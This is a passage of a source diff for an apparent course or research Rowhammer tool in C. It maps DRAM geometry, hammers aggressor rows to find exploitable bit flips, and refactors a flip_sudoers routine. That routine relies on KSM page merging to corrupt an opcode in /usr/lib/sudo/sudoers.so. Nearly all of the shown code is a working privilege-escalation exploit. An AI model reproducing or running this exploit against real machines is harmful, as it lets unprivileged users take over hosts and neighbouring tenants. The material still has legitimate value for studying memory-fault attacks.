-		physaddr |= dram_addr.ch_to_bank[i] << __builtin_ctzl(hwsec05_function_masks[i]); // set the "correct bit"
-
 	}
-	// pr_info("final phys_addr %p = %s\n",physaddr, bit_string(physaddr));
-	return physaddr;
-}
-
-/* Find agressor rows to perform double-sided
-   hammering on victim row. */
-static uint64_t hammer_rand_pair(uint8_t *buf) {
-	
-	unsigned i;
-	uint8_t *agg1, *v_agg1, *agg2, *v_agg2, *victim, *v_victim;
-	dram_addr_t agg1_dram_addr, agg2_dram_addr, victim_dram_addr;
-	uint64_t flips;
-	uint8_t **flipped_addrs_set;
-	size_t flipped_addrs_set_sz;
-	uint16_t bank = 0;
-	flipped_addrs_set = malloc(sizeof(uint8_t *) * 50);
-	flipped_addrs_set_sz = 0;
-    
-	uint64_t dram_no = 0;
-
-	/* Select a random base address. */
-	agg1 = get_rand_addr(buf);
-
-	/* Apply dram functions to get channel 
-	   to dram parity array - Selecting Bank. */
-	for(i = 0; i < NUM_FUNC_MASKS; ++i) {
-		agg1_dram_addr.ch_to_bank[i] = __builtin_parity((uintptr_t) agg1 & hwsec05_function_masks[i]);
-		bank |= agg1_dram_addr.ch_to_bank[i] << i;
-		agg2_dram_addr.ch_to_bank[i] = agg1_dram_addr.ch_to_bank[i];
-		victim_dram_addr.ch_to_bank[i] = agg1_dram_addr.ch_to_bank[i];
-		dram_no |= (agg1_dram_addr.ch_to_bank[i]) << i;
-	}
-
-    pr_info("DRAM bank no = %ld\n", dram_no);
-
-	/* Apply the row bitmask to the physaddr
-	   and shift to get the row number */
-	agg1_dram_addr.row = ((uintptr_t) agg1 & row_mask) >> __builtin_ctzl(row_mask);
-	
-	/* Get victim and 2ns aggressor row */
-	victim_dram_addr.row = agg1_dram_addr.row + 1;
-	agg2_dram_addr.row = agg1_dram_addr.row + 2;
-
-	/* Get physical address of agg2 row
-	   and victim row, and remove column bits from agg1 to align it to start of row for striping*/
-	agg1 = (uint8_t *) dram_to_physical(agg1_dram_addr);
-	victim = (uint8_t *) dram_to_physical(victim_dram_addr);
-	agg2 = (uint8_t *) dram_to_physical(agg2_dram_addr);
-	
-	/* Get virtual address of aggresor rows
-	   and victim row, */
-	v_agg2 = (uint8_t *) ((uintptr_t) agg2 | (uintptr_t) buf);
-	v_agg1 = (uint8_t *) ((uintptr_t) agg1 | (uintptr_t) buf);
-	v_victim = (uint8_t *) ((uintptr_t) victim | (uintptr_t) buf);
-
-	/* Filling 0s in aggresor rows to 
-	   see flips */
-	memset(v_agg1, 0, ROW_SIZE);
-	memset(v_agg2 , 0, ROW_SIZE);
-	
-	/* Let's get hammering! */
-	for(unsigned k = 0; k < hammer_conf->hammering_rounds; k++){
-		hammer(v_agg1, v_agg2, hammer_conf->num_row_activations);
+	if(coverage) {
+		coverage_mark(coverage, c, result);
 	}
-	
-	/* Check for flips */
-	for(unsigned i = 0; i < ROW_SIZE; ++i) {
-		if(v_victim[i] != 0xff) {
-			pr_info("Flip in BANK %u agg1 %p ---- vic %p ---- agg2 = %p\n",bank,  v_agg1, v_victim, v_agg2);
-			pr_info("victim flipped addr = %p, was 0xff is now 0x%x\n", v_victim + i, v_victim[i]);
-			++flips;
-			if(!set_contains(flipped_addrs_set, flipped_addrs_set_sz, v_victim + i)) {
-				flipped_addrs_set[flipped_addrs_set_sz++] = v_victim + i;
-			}
-		}
+	if(metrics) {
+		metrics_result(metrics, result);
 	}
-
-	//pr_info("============== TOTAL BIT FLIPS = %lu ==============\n", flips);
-	free(flipped_addrs_set);
-	return flipped_addrs_set_sz;
-}
-
-
-static uint64_t hammer_rand_pairs(uint8_t *buf, unsigned npairs)
-	{	
-		uint64_t flips;	
-		flips = 0;	
-		while(npairs--) {	
-			flips += hammer_rand_pair(buf);	
-			memset(buf, 0xFF, BUFFER_SIZE); //reset memory	
-		}	
-		
-		return flips;	
+	sweep->flips += result->flips;
+	sweep->acts += result->activations;
+	sweep->elapsed_ns += result->elapsed_ns;
+	sweep->load_mb += result->load_mbps * result->elapsed_ns / 1e9;
+	for(i = 0; i <= HAMMER_MAX_RADIUS; ++i) {
+		sweep->flips_at[i] += result->flips_at[i];
 	}
-
-#ifdef CALC_DRAM_CONFIG
-static uint64_t row_index_sc(uint8_t *buf)	
-{	
-	unsigned i;	
-	uint64_t flips_found, max, row_fn;	
-	uint64_t row_mask_candidates[4] = 	
-	{		
-		0x100000,	
-		0x180000,	
-		0x1c0000,	
-		0x1e0000,	
-	};	
-	
-	flips_found = 0;	
-	max = 0;	
-	row_fn = 0;	
-	for(i = 0; i < 4; ++i) {	
-		row_mask = row_mask_candidates[i];	
-		flips_found = hammer_rand_pairs(buf, 500);	
-		if(flips_found > max) {	
-			max = flips_found;	
-			row_fn = row_mask;	
-		}	
-	}	
-	
-	return row_fn;	
-}
-#endif
-
-static uintptr_t __row_align_addr(uint8_t *buf, uint8_t *addr)
-{
-	dram_addr_t dram_addr;
-	uintptr_t row_aligned_addr;
-	unsigned i;
-
-	for(i = 0; i < NUM_FUNC_MASKS; ++i) {
-        dram_addr.ch_to_bank[i] = __builtin_parity((uintptr_t) addr & hwsec05_function_masks[i]);;
-    }
-	dram_addr.row = ((uintptr_t) addr & row_mask) >> __builtin_ctzl(row_mask);
-
-	row_aligned_addr = (uintptr_t) buf | dram_to_physical(dram_addr);
-	pr_info("ROW ALIGNED ADDRESS %p = 0x%lx\n", addr, row_aligned_addr);
-	return row_aligned_addr;
 }
 
-static uintptr_t __get_adjacent_row(uint8_t *buf, uint8_t *addr, int placement)
+/* Find agressor rows to perform double-sided
+   hammering on a random victim row. */
+static uint64_t hammer_rand_pairs(hammer_ctx_t *c, unsigned npairs)
 {
-	dram_addr_t dram_addr;
-	unsigned i;
-
-	for(i = 0; i < NUM_FUNC_MASKS; ++i) {
-        dram_addr.ch_to_bank[i] = __builtin_parity((uintptr_t) addr & hwsec05_function_masks[i]);;
-    }
-	dram_addr.row = ((uintptr_t) addr & row_mask) >> __builtin_ctzl(row_mask);
+	hammer_job_t job;
+	hammer_result_t result;
+	uint64_t flips;
 
-	if(placement == PREV_ROW) {
-		dram_addr.row--;	
-	}
-	else {
-		dram_addr.row++;
+	flips = 0;
+	while(npairs--) {
+		hammer_random_job(c, 0, &job);
+		pr_info("DRAM bank no = %u\n", job.bank);
+		hammer_run_jobs(c, &job, 1, &result);
+		flips += result.flips;
 	}
 
-	return (uintptr_t) buf | dram_to_physical(dram_addr);
+	return flips;
 }
 
-
-static template_t * scan_for_flips(uint8_t *buf, uint8_t *vic, uint8_t direction)
+/* Hammer all the A-V-A triplets of a bank, the aggressors
+   being the physical neighbours of the victim from the row map. */
+static template_t * hammer_bank(hammer_ctx_t *c, unsigned buffer, unsigned bank_n)
 {
-	template_t *template;
-	unsigned i, j;
-
-
-	if(direction == ZERO_TO_ONE) {
-		for(i = ENTROPY_PADDING_SIZE; i < ROW_SIZE; ++i) {
-			if(vic[i] != 0x00) {
-				pr_info("victim flipped addr = %p, was 0x00 is now 0x%x\n", vic + i, vic[i]);
-				for (j = 0; j < NUM_EXPLOITABLE_OPCODES; j++){
-					if (((uintptr_t) (vic + i) - opcodes[j].file_offset) % PAGE_SIZE == 0 && (0x00 ^ (1 << opcodes[j].bit_offset)) == vic[i]) {
-						pr_info("Template OPCODE NO: %d\n", j);
-						template = malloc(sizeof(template_t));
-						assert(template != NULL);
-						template->addr = (uintptr_t) (vic + i);
-						template->op = opcodes[j];
-						goto out;
-					}
-				}
-			}
-		}
+	hammer_job_t jobs[MAX_CONTROLLED_ROWS];
+	hammer_result_t result;
+	uint8_t *addrs[MAX_CONTROLLED_ROWS];
+	sweep_t *sweep;
+	size_t njobs, i;
+
+	sweep = (sweep_t *) c->cb_arg;
+	pr_info("DRAM bank no = %u\n", bank_n);
+
+	hammer_bank_rows(c, hammer_ctx_buffer(c, buffer), bank_n, addrs);
+	for(i = 0; i < c->dram.nrows; ++i) {
+		pr_info("Row %lu -> %p\n", i, addrs[i]);
 	}
-	else {
-		for(i = ENTROPY_PADDING_SIZE; i < ROW_SIZE; ++i) {
-			if(vic[i] != 0xFF) {
-				pr_info("victim flipped addr = %p, was 0xFF is now 0x%x\n", vic + i, vic[i]);
-				for (j = 0; j < NUM_EXPLOITABLE_OPCODES; j++){
-					if (((uintptr_t) (vic + i) - opcodes[j].file_offset) % PAGE_SIZE == 0 && (0xFF ^ (1 << opcodes[j].bit_offset)) == vic[i]) {
-						pr_info("Template OPCODE NO: %d\n", j);
-						template = malloc(sizeof(template_t));
-						assert(template != NULL);
-						template->addr = (uintptr_t) (vic + i);
-						template->op = opcodes[j];
-						goto out;
-					}
-				}
-			}
+
+	/* One job at a time, we stop at the first template */
+	njobs = hammer_bank_jobs(c, buffer, bank_n, jobs, MAX_CONTROLLED_ROWS);
+	for(i = 0; i < njobs && sweep->template == NULL && !sweep_stop; ++i) {
+		if(coverage && coverage_done(coverage, c, &jobs[i])) {
+			continue;
 		}
+		hammer_run_jobs(c, &jobs[i], 1, &result);
 	}
 
-out:
-	return template;
+	return sweep->template;
 }
 
-
-static template_t * hammer_bank(uint8_t *buf, uint16_t bank_n)
+/* Hammer the A-V-A triplets of nbanks banks at once with the
+   bank-interleaved kernel. Per-bank activation counts and rates
+   are reported against a single-bank reference run so a diluted
+   activation rate shows up immediately. */
+static template_t * hammer_banks_interleaved(hammer_ctx_t *c, unsigned buffer, unsigned nbanks)
 {
-	dram_addr_t dram_addr;
-	uint8_t *p_addr, *v_addr, *agg1, *agg2, *vic;
-	uint8_t **addrs;
-	unsigned i, j, k;
-	template_t *template;
+	hammer_job_t jobs[MAX_CONTROLLED_BANKS][MAX_CONTROLLED_ROWS], group[MAX_CONTROLLED_BANKS];
+	hammer_result_t *results;
+	size_t njobs, i;
+	unsigned b, first, n, k, a1, a2;
+	sweep_t *sweep;
+
+	sweep = (sweep_t *) c->cb_arg;
+	free(sweep->template);
+	sweep->template = NULL;
+	if(nbanks > c->dram.nbanks) {
+		nbanks = c->dram.nbanks;
+	}
+	c->conf.interleave_banks = nbanks;
 
-	template = NULL;
+	results = malloc(sizeof(hammer_result_t) * nbanks);
+	assert(results != NULL);
 
-	addrs = malloc(sizeof(uint8_t *) * CONTROLLED_ROWS);
-	assert(addrs);
+	/* Single-bank reference rate with the plain kernel */
+	sweep->ref_rate = hammer_reference_rate(c, buffer);
+	pr_info("[INFO] Single-bank reference rate: %0.2f M ACT/s\n", sweep->ref_rate / 1e6);
 
-    uint64_t dram_no = 0;
-	
-	//save all the banks we can address
-    for(i = 0; i < NUM_FUNC_MASKS; ++i) {
-        uint64_t bit = (bank_n & (1 << i)) > 0 ? 1 : 0;
-        dram_addr.ch_to_bank[i] = bit;
-        dram_no |= bit << i;
-    }
-
-    pr_info("DRAM bank no = %s\n", bit_string(dram_no));
-
-    for(i = 0; i < NUM_FUNC_MASKS; i++){
-        pr_info("BIT %d: %ld\n", i, dram_addr.ch_to_bank[i]);
-    }
-	
-	// save all the addresses which map to consecutive rows in an array
-	for(i = 0; i < CONTROLLED_ROWS; ++i) {
-		dram_addr.row = i;
-		p_addr = (uint8_t *) dram_to_physical(dram_addr);
-		v_addr = (uint8_t *) ((uintptr_t) p_addr | (uintptr_t) buf);
-		pr_info("Row %lu -> %p\n", dram_addr.row, v_addr);
-		addrs[i] = v_addr;
-	}
-
-	//hammer all the A-V-A combinations in our array.
-	for(i = 0; i < CONTROLLED_ROWS - 4; ++i) {
-		agg1 = addrs[i];
-		agg2 = addrs[i + 2];
-		vic = addrs[i + 1];
-		memset(addrs[i] + ENTROPY_PADDING_SIZE, 0xFF, ROW_SIZE - ENTROPY_PADDING_SIZE);
-		memset(addrs[i + 2] + ENTROPY_PADDING_SIZE, 0xFF, ROW_SIZE - ENTROPY_PADDING_SIZE);
-		memset(vic + ENTROPY_PADDING_SIZE, 0x00, ROW_SIZE - ENTROPY_PADDING_SIZE);
-		pr_info("Hammering agg1 %p ---- vic %p ---- agg2 %p\n", agg1, vic, agg2);
-
-		for(unsigned k = 0; k < hammer_conf->hammering_rounds; k++){
-			hammer(addrs[i], addrs[i + 2], hammer_conf->num_row_activations);
-		}
-		/* Check for flips */
-		for(j = ENTROPY_PADDING_SIZE; j < ROW_SIZE; ++j) {
-			if(vic[j] != 0x00) {
-				pr_info("victim flipped addr = %p, was 0x00 is now 0x%x\n", vic + j, vic[j]);
-				for (k = 0; k < NUM_EXPLOITABLE_OPCODES; k++){
-					if (((uintptr_t) (vic + j) - opcodes[k].file_offset) % PAGE_SIZE == 0 && (0x00 ^ (1 << opcodes[k].bit_offset)) == vic[j] && opcodes[k].direction == ZERO_TO_ONE) {
-						pr_info("Template Found!!!! OPCODE NO: %d\n", k);
-						template = malloc(sizeof(template_t));
-						assert(template != NULL);
-						template->addr = (uintptr_t) (vic + j);
-						template->op = opcodes[k];
-						goto out;
-					}
+	njobs = 0;
+	for(b = 0; b < c->dram.nbanks; ++b) {
+		njobs = hammer_bank_jobs(c, buffer, b, jobs[b], MAX_CONTROLLED_ROWS);
+	}
+
+	for(first = 0; first < c->dram.nbanks && sweep->template == NULL && !sweep_stop; first += nbanks) {
+		for(i = 0; i < njobs && sweep->template == NULL && !sweep_stop; ++i) {
+			for(n = 0, k = 0; k < nbanks && first + k < c->dram.nbanks; ++k) {
+				if(coverage == NULL || !coverage_done(coverage, c, &jobs[first + k][i])) {
+					group[n++] = jobs[first + k][i];
 				}
 			}
+			if(n == 0) {
+				continue;
+			}
+
+			rowmap_aggressors(&c->row_map, group[0].victim_row, &a1, &a2);
+			pr_info("Hammering rows %u-%u-%u in banks %u..%u\n", a1, group[0].victim_row, a2, group[0].bank, group[n - 1].bank);
+			hammer_run_jobs(c, group, n, results);
+			if(n > 1 && results[0].have_perf) {
+				print_perf(c, &results[0].perf, 2 * n);
+			}
 		}
-		memset(vic + ENTROPY_PADDING_SIZE, 0, ROW_SIZE - ENTROPY_PADDING_SIZE);
 	}
-out:
-	return template;
+
+	free(results);
+	return sweep->template;
 }
 
-static template_t * hammer_all_banks(uint8_t *buf)
+static template_t * hammer_all_banks(hammer_ctx_t *c, unsigned buffer)
 {
 	unsigned i;
 	template_t *addr;
-	
+	sweep_t *sweep;
+
+	/* Every buffer starts a new search */
+	sweep = (sweep_t *) c->cb_arg;
+	free(sweep->template);
+	sweep->template = NULL;
+
 	addr = NULL;
-	for(i = 0; i < CONTROLLED_BANKS; ++i) {
+	for(i = 0; i < c->dram.nbanks && !sweep_stop; ++i) {
 		pr_debug("Hammering BANK %u\n", i);
-		if((addr = hammer_bank(buf, i)) != NULL) {
+		if((addr = hammer_bank(c, buffer, i)) != NULL) {
 			goto out;
 		}
 	}
@@ -750,11 +629,11 @@ out:
 	return addr;
 }
 
-static template_t * find_template(uint8_t *buf)
+static template_t * find_template(hammer_ctx_t *c, unsigned buffer)
 {
 	template_t *template;
 
-	if((template = hammer_all_banks(buf)) != NULL) {
+	if((template = hammer_all_banks(c, buffer)) != NULL) {
 		goto out;
 	}
 
@@ -764,53 +643,77 @@ out:
 	return template;
 }
 
-static void hammer_mask_byte(uint8_t *buf, template_t *template, uint8_t *aggressor_mask, uint8_t *opcode)
+static void __add_entropy_page(uint8_t *page)
+{
+	unsigned i;
+
+	for(i = 0; i < ENTROPY_PADDING_SIZE; ++i) {
+		page[i] = rand() % (1 << 8);
+	}
+}
+
+static void hammer_mask_byte(hammer_ctx_t *c, uint8_t *buf, template_t *template, uint8_t *aggressor_mask, uint8_t *opcode)
 {
-	uint8_t *target, *agg1, *vic, *agg2;
+	uint8_t *target, *agg1, *vic, *agg2, *rows[3];
+	perf_sample_t sample;
+	hammer_result_t result;
+	flipmap_t flips;
 	unsigned i;
-	uint8_t lo_to_high_flips[ROW_SIZE] = {0};
-	uint8_t high_to_lo_flips[ROW_SIZE] = {0};
 
 	target = (uint8_t *) (template->addr - PAGE_OFFSET(template->op.file_offset));
-	vic = (uint8_t *) __row_align_addr(buf, target);
-	agg1 = (uint8_t *) __get_adjacent_row(buf, vic, PREV_ROW);
-	agg2 = (uint8_t *) __get_adjacent_row(buf, vic, NEXT_ROW);
+	vic = (uint8_t *) hammer_row_align(c, buf, target);
+	agg1 = (uint8_t *) hammer_adjacent_row(c, buf, vic, PREV_ROW);
+	agg2 = (uint8_t *) hammer_adjacent_row(c, buf, vic, NEXT_ROW);
+	pr_info("ROW ALIGNED ADDRESS %p = %p\n", target, vic);
+	rows[0] = agg1;
+	rows[1] = vic;
+	rows[2] = agg2;
+
+	flipmap_init(&flips);
+	memset(&result, 0, sizeof(result));
+	result.victim = vic;
 
 	memset(agg1 + ENTROPY_PADDING_SIZE, 0x00, ROW_SIZE - ENTROPY_PADDING_SIZE);
 	memset(agg2 + ENTROPY_PADDING_SIZE, 0x00, ROW_SIZE - ENTROPY_PADDING_SIZE);
 	memset(vic + ENTROPY_PADDING_SIZE, 0xFF, ROW_SIZE - ENTROPY_PADDING_SIZE);
+	hammer_flush_rows(rows, 3);
 
-	hammer(agg1, agg2, hammer_conf->num_row_activations);
-
-	for(i = ENTROPY_PADDING_SIZE; i < ROW_SIZE; ++i) {
-		if(vic[i] != 0xFF) {
-			pr_debug("Found 1 -> 0 Flip -> Masking Aggressor\n");
-			high_to_lo_flips[i] = 1;
-		}
+	if(hammer_pair(c, agg1, agg2, c->conf.num_row_activations, &sample)) {
+		print_perf(c, &sample, 2);
 	}
 
+	result.victim_pattern = 0xFF;
+	hammer_uncache_rows(c, &vic, 1);
+	hammer_scan_victim(&result, &flips);
+
 	memset(agg1 + ENTROPY_PADDING_SIZE, 0xFF, ROW_SIZE - ENTROPY_PADDING_SIZE);
 	memset(agg2 + ENTROPY_PADDING_SIZE, 0xFF, ROW_SIZE - ENTROPY_PADDING_SIZE);
 	memset(vic + ENTROPY_PADDING_SIZE, 0x00, ROW_SIZE - ENTROPY_PADDING_SIZE);
+	hammer_row_dirty(c, agg1);
+	hammer_row_dirty(c, agg2);
+	hammer_row_dirty(c, vic);
+	hammer_flush_rows(rows, 3);
 
-	hammer(agg1, agg2, hammer_conf->num_row_activations);
-
-	for(i = ENTROPY_PADDING_SIZE; i < ROW_SIZE - ENTROPY_PADDING_SIZE; ++i) {
-		if(vic[i] != 0x00) {
-			pr_debug("Found 0 -> 1 Flip -> Masking Aggressor\n");
-			lo_to_high_flips[i] = 1;
-		}
+	if(hammer_pair(c, agg1, agg2, c->conf.num_row_activations, &sample)) {
+		print_perf(c, &sample, 2);
 	}
 
+	result.victim_pattern = 0x00;
+	hammer_uncache_rows(c, &vic, 1);
+	hammer_scan_victim(&result, &flips);
+
 	for(i = ENTROPY_PADDING_SIZE; i < ROW_SIZE; ++i) {
-		if(high_to_lo_flips[i]) {
+		if(flipmap_byte(&flips, (uintptr_t) (vic + i), ONE_TO_ZERO)) {
+			pr_debug("Found 1 -> 0 Flip -> Masking Aggressor\n");
 			aggressor_mask[i] = 0xFF;
 		}
 		// 0 -> 1 flips seemed to be more common, prioritize them.
-		if(lo_to_high_flips[i]) {
+		if(flipmap_byte(&flips, (uintptr_t) (vic + i), ZERO_TO_ONE)) {
+			pr_debug("Found 0 -> 1 Flip -> Masking Aggressor\n");
 			aggressor_mask[i] = 0x00;
 		}
 	}
+	flipmap_free(&flips);
 	aggressor_mask[PAGE_OFFSET(template->op.file_offset)] = (uint8_t) ~(opcode[0]);
 
 	for(i = 0; i < ROW_SIZE; ++i) {
@@ -819,30 +722,32 @@ static void hammer_mask_byte(uint8_t *buf, template_t *template, uint8_t *aggres
 }
 
 
-static int flip_sudoers(uint8_t *buf)
+static int flip_sudoers(hammer_ctx_t *c, unsigned buffer)
 {
 	int fd, rv;
 	FILE *fd_out;
 	template_t *template;
-	uint8_t *agg1, *vic, *agg2, *target, saved_sudoers[PAGE_SIZE], opcode[2];
+	perf_sample_t sample;
+	uint8_t *buf, *agg1, *vic, *agg2, *target, saved_sudoers[PAGE_SIZE], opcode[2];
 	uint8_t *aggressor_mask;
 	unsigned j, k;
 	uint8_t op, op1;
-	
-	
-	template = find_template(buf);
+
+
+	buf = hammer_ctx_buffer(c, buffer);
+	template = find_template(c, buffer);
 
 	if(!template) {
 		rv = -1;
 		goto out;
 	}
-	
+
 	pr_info("\n[+] Template found!!!\n");
 
 	aggressor_mask = malloc(sizeof(uint8_t) * ROW_SIZE);
 	assert(aggressor_mask != NULL);
 
-	
+
 
 	fd = open("/usr/lib/sudo/sudoers.so", O_RDONLY);
 	assert(fd > 0);
@@ -854,7 +759,7 @@ static int flip_sudoers(uint8_t *buf)
 	assert(rv == PAGE_SIZE);
 
 	opcode[0] = saved_sudoers[PAGE_OFFSET(template->op.file_offset)];
-	hammer_mask_byte(buf, template, aggressor_mask, opcode);
+	hammer_mask_byte(c, buf, template, aggressor_mask, opcode);
 
 	pr_info("\n[+] Read Page containing template from sudoers.so into saved_sudoers buffer.\n");
 
@@ -868,12 +773,12 @@ static int flip_sudoers(uint8_t *buf)
 
 	printf("\n[+] Wait for KSM to merge (atleast 1 full scan!) Enter any character when done\n");
 	getchar();
-	
-	vic = (uint8_t *) __row_align_addr(buf, target);
-	agg1 = (uint8_t *) __get_adjacent_row(buf, vic, PREV_ROW);
-	agg2 = (uint8_t *) __get_adjacent_row(buf, vic, NEXT_ROW);
 
-	
+	vic = (uint8_t *) hammer_row_align(c, buf, target);
+	agg1 = (uint8_t *) hammer_adjacent_row(c, buf, vic, PREV_ROW);
+	agg2 = (uint8_t *) hammer_adjacent_row(c, buf, vic, NEXT_ROW);
+
+
 	memcpy(agg1, aggressor_mask, ROW_SIZE);
 	memcpy(agg2, aggressor_mask, ROW_SIZE);
 
@@ -882,19 +787,26 @@ static int flip_sudoers(uint8_t *buf)
 	__add_entropy_page(agg2);
 	__add_entropy_page(agg2 + PAGE_SIZE);
 
+	hammer_row_dirty(c, agg1);
+	hammer_row_dirty(c, agg2);
+	hammer_row_dirty(c, vic);
+	hammer_row_dirty(c, target - ROW_SIZE);
+
 	memset(aggressor_mask, 0, ROW_SIZE);
 	free(aggressor_mask);
-	
+
 
 	rv = -1;
-	
-	hammer(agg1, agg2, hammer_conf->num_row_activations);
-	
-	
+
+	if(hammer_pair(c, agg1, agg2, c->conf.num_row_activations, &sample)) {
+		print_perf(c, &sample, 2);
+	}
+
+
 	for(j = ENTROPY_PADDING_SIZE; j < PAGE_SIZE; j++){
 		if(PAGE_OFFSET((uintptr_t) (target + j)) == PAGE_OFFSET((uintptr_t) template->op.file_offset)){
 			pr_info("[+] Page offset matched!!!\n");
-			
+
 			fd_out = fopen("sudo_out", "wb+");
 			assert(fd_out != NULL);
 			for(k = 0; k < PAGE_SIZE; ++k) {
@@ -909,59 +821,469 @@ static int flip_sudoers(uint8_t *buf)
 	}
 	close(fd);
 	return 0;
-		
+
 out:
 	return rv;
 }
 
-#ifdef CALC_DRAM_CONFIG
-static void print_bank_rows(uint8_t *buf, uint16_t bank_n)
+/* Map one buffer at a slot. Returns 0 or -errno. */
+static int try_map_buffer(hammer_ctx_t *c, unsigned slot)
 {
-	dram_addr_t dram_addr;
-	uint8_t *p_addr, *v_addr;
-	uint8_t **addrs;
-	unsigned i;
-	FILE *fp;
+	int rv;
 
-	fp = fopen("hwsec05.csv", "w+");
-	if(fp == NULL) {
-		pr_err("Couldn't create hwsec05.csv\n");
+	if((rv = hammer_ctx_map_buffers(c, slot, 1))) {
+		pr_err("[ERROR] Cannot map buffer at slot %u (%s)\n", slot, strerror(-rv));
+		if(metrics) {
+			metrics_buffer(metrics, 0, 0);
+		}
+		return rv;
 	}
-
-	addrs = malloc(sizeof(uint8_t *) * CONTROLLED_ROWS);
-	assert(addrs);
-
-	for(i = 0; i < NUM_FUNC_MASKS; ++i) {
-		dram_addr.ch_to_bank[i] = bank_n & (1 << i);
+	if(metrics) {
+		metrics_buffer(metrics, 1, hammer_buffer_is_huge(hammer_ctx_buffer(c, c->nbuffers - 1)));
 	}
+	print_warnings(c);
+	return 0;
+}
 
-	for(i = 0; i < CONTROLLED_ROWS; ++i) {
-		dram_addr.row = i;
-		p_addr = (uint8_t *) dram_to_physical(dram_addr);
-		v_addr = (uint8_t *) ((uintptr_t) p_addr | (uintptr_t) buf);
-		pr_info("Row %lu -> %p\n", dram_addr.row, v_addr);
-		addrs[i] = v_addr;
+/* Map one buffer at a slot and exit if we can't. Not for
+   the NUMA workers, the others would lose their context. */
+static void map_buffer(hammer_ctx_t *c, unsigned slot)
+{
+	if(try_map_buffer(c, slot)) {
+		pr_err("[ERROR] Exiting...\n");
+		if(metrics) {
+			metrics_phase(metrics, METRICS_DONE, NULL);
+			metrics_write(metrics);
+		}
+		hammer_ctx_destroy(c);
+		exit(EXIT_FAILURE);
 	}
+}
 
-	for(i = 0; i < CONTROLLED_ROWS - 1; ++i) {
-		fprintf(fp, "%p, %p\n", addrs[i], addrs[i + 1]);
+/* Also on exit() from the error paths */
+static void stop_stats(void)
+{
+	stats_destroy(stats);
+	stats = NULL;
+}
+
+static void sweep_signal(int sig)
+{
+	(void) sig;
+	sweep_stop = 1;
+}
+
+/* Coverage of -O, loaded with --resume. Interrupting the sweep
+   then finishes the triplet at hand and saves instead of dying. */
+static void start_coverage(hammer_ctx_t *c, int resume)
+{
+	struct sigaction sa;
+	int rv;
+
+	coverage_init(&cov, hammer_conf->coverage_path, c);
+	coverage = &cov;
+	if(resume) {
+		rv = coverage_load(&cov);
+		if(rv == -ENOENT) {
+			pr_info("[INFO] No coverage in %s yet, starting from scratch\n", cov.path);
+		}
+		else if(rv == -ESTALE) {
+			pr_err("[WARN] %s was written under another configuration, starting from scratch\n", cov.path);
+			coverage_init(&cov, hammer_conf->coverage_path, c);
+		}
+		else if(rv) {
+			pr_err("[WARN] Ignoring malformed coverage %s\n", cov.path);
+			coverage_init(&cov, hammer_conf->coverage_path, c);
+		}
+		else {
+			pr_info("[INFO] Resuming: %lu triplets already covered in %s\n", cov.nloaded, cov.path);
+		}
+	}
+
+	memset(&sa, 0, sizeof(sa));
+	sa.sa_handler = sweep_signal;
+	sigaction(SIGINT, &sa, NULL);
+	sigaction(SIGTERM, &sa, NULL);
+}
+
+/* Take the bank functions and row bits found from timing instead
+   of the profile's. The row map is reset to logical adjacency. Both
+   are left as they are unless the whole geometry is found. */
+static int rediscover_profile(hammer_ctx_t *c, unsigned buffer)
+{
+	hammer_bank_sets_t sets;
+	uint64_t *functions;
+	dram_profile_t profile;
+	unsigned n;
+	int rv;
+
+	if((rv = hammer_cluster_banks(c, buffer, VALIDATE_SAMPLES, &sets))) {
+		return rv;
+	}
+	functions = hammer_solve_functions(&sets);
+	hammer_bank_sets_free(&sets);
+	if(functions == NULL) {
+		return -ENOMEM;
+	}
+	for(n = 0; functions[n] != 0; ++n);
+	if(n == 0 || n > MAX_FUNC_MASKS) {
+		free(functions);
+		return -ENODATA;
+	}
+	profile = c->dram;
+	profile.nmasks = n;
+	memcpy(profile.function_masks, functions, n * sizeof(uint64_t));
+	free(functions);
+	if(dram_check_profile(&profile)) {
+		return -ENODATA;
+	}
+
+	/* The row bits are found through the new functions */
+	if((profile.row_mask = hammer_discover_row_mask(c, buffer, &profile)) == 0 ||
+	   dram_check_profile(&profile)) {
+		return -ENODATA;
+	}
+	c->dram = profile;
+	rowmap_identity(&c->row_map, c->dram.name, c->dram.nrows);
+	return 0;
+}
+
+/* Spot check the profile against row buffer timing, see
+   hammer_validate_profile(). Returns 0 to go on with the
+   (possibly rediscovered) profile. */
+static int validate_profile(hammer_ctx_t *c)
+{
+	hammer_validation_t v;
+	unsigned i;
+	int rv;
+
+	map_buffer(c, 1);
+	if(!hammer_buffer_is_huge(hammer_ctx_buffer(c, 0))) {
+		pr_err("[WARN] Buffer is not huge page backed, the profile check sees virtual address bits.\n");
+	}
+	rv = hammer_validate_profile(c, 0, &v);
+	if(rv == -ENODATA) {
+		/* A profile so wrong that every pair lands in one class looks
+		   the same, only -V warn goes on with it */
+		pr_err("[WARN] Profile check: no row buffer timing signal, %s is unverified\n", c->dram.name);
+		if(c->conf.validate == VALIDATE_WARN) {
+			rv = 0;
+			goto out;
+		}
+	}
+	else if(rv < 0) {
+		goto out;
+	}
+	else {
+		pr_info("[INFO] Profile check: %u/%u pairs agree with %s (%u false hits, %u false conflicts, conflict >= %0.0f ns) in %0.1f ms\n",
+				v.agree, v.npairs, c->dram.name, v.false_hits, v.false_conflicts, v.threshold_ns, v.elapsed_ns / 1e6);
+		if(rv == 1) {
+			rv = 0;
+			goto out;
+		}
+	}
+
+	switch(c->conf.validate) {
+		case VALIDATE_WARN:
+			pr_err("[WARN] Profile %s does not match this machine, flips will be missed\n", c->dram.name);
+			rv = 0;
+			break;
+
+		case VALIDATE_DISCOVER:
+			pr_err("[WARN] Profile %s is not confirmed by this machine, discovering the geometry\n", c->dram.name);
+			if((rv = rediscover_profile(c, 0))) {
+				break;
+			}
+			for(i = 0; i < c->dram.nmasks; ++i) {
+				pr_info("Function 0x%06lx\n", c->dram.function_masks[i]);
+			}
+			pr_info("[INFO] Discovered %u banks x %u rows (row bits 0x%06lx)\n", c->dram.nbanks, c->dram.nrows,
+					c->dram.row_mask);
+			rv = hammer_validate_profile(c, 0, &v) == 1 ? 0 : -ENODATA;
+			break;
+
+		default:
+			rv = rv == -ENODATA ? rv : -EINVAL;
+			break;
+	}
+
+out:
+	hammer_ctx_unmap_buffers(c);
+	return rv;
+}
+
+/* Start the background traffic of -L and measure what it
+   costs the single-bank reference rate. */
+static int start_load(hammer_ctx_t *c)
+{
+	double idle, loaded, mbps;
+	uint64_t bytes, t_start, t_delta;
+	int rv;
+
+	map_buffer(c, 1);
+	idle = hammer_reference_rate(c, 0);
+	if((rv = load_start(&load, &c->numa_topo, c->env.cpu))) {
+		hammer_ctx_unmap_buffers(c);
+		return rv;
+	}
